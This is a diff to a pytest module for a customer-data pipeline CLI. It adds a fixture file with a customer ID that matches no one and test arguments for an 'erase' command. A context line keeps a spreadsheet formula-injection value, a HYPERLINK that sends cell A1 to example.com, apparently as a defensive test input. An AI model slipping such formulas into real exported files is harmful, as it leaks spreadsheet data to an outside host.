@@ -6,6 +6,7 @@ import io
 import json
 from collections.abc import Iterator
 from dataclasses import dataclass
+from pathlib import Path
 from typing import TYPE_CHECKING
 
 import boto3
@@ -29,11 +30,12 @@ FORMULA = '=HYPERLINK("http://example.com/"&A1)'
 
 @dataclass(frozen=True)
 class Files:
-    """The keys of three files, and what they are about."""
+    """The keys of three files, by what they are about, and a file that names nobody in them."""
 
     rejects: str
     refused: str
     corrected: str
+    nobody: Path
 
 
 @dataclass
@@ -85,7 +87,7 @@ def begin_sessions(people: People, outputs: dict[str, str]) -> dict[str, boto3.S
 
 
 @pytest.fixture(scope="module", name="files")
-def process_files(pipeline: Pipeline) -> Files:
+def process_files(pipeline: Pipeline, tmp_path_factory: pytest.TempPathFactory) -> Files:
     """A file with rejected rows, one that is refused, and one that is corrected."""
     header = b"customer_id,full_name,email,phone,birth_date,national_id,address,postcode,country,"
     header += b"signup_at,marketing_consent,loyalty_points,credit_limit\n"
@@ -99,7 +101,10 @@ def process_files(pipeline: Pipeline) -> Files:
     for name, content in zip(names, (header + good + bad, b"", b"wrong\n1\n"), strict=True):
         pipeline.process(name, content)
     pipeline.process(names[2], header + good)
-    return Files(*(f"incoming/{name}" for name in names))
+    nobody = tmp_path_factory.mktemp("erased") / "nobody.txt"
+    nobody.write_text("C99999999\n", encoding="utf-8")
+    rejects, refused, corrected = (f"incoming/{name}" for name in names)
+    return Files(rejects, refused, corrected, nobody)
 
 
 def loaded(name: str) -> Command:
@@ -116,6 +121,7 @@ def arguments(name: str, files: Files) -> list[str]:
         "rejects": [files.rejects],
         "query": ["SELECT count(*) AS rows FROM customers", "--dataset", DATASET],
         "redrive": [],
+        "erase": [str(files.nobody), "--domain", "customer", "--yes"],
         "replay": ["--only", "refused", "--prefix", files.rejects],
     }
     return [name, *asked.get(name, ["--dataset", DATASET]), "--json"]
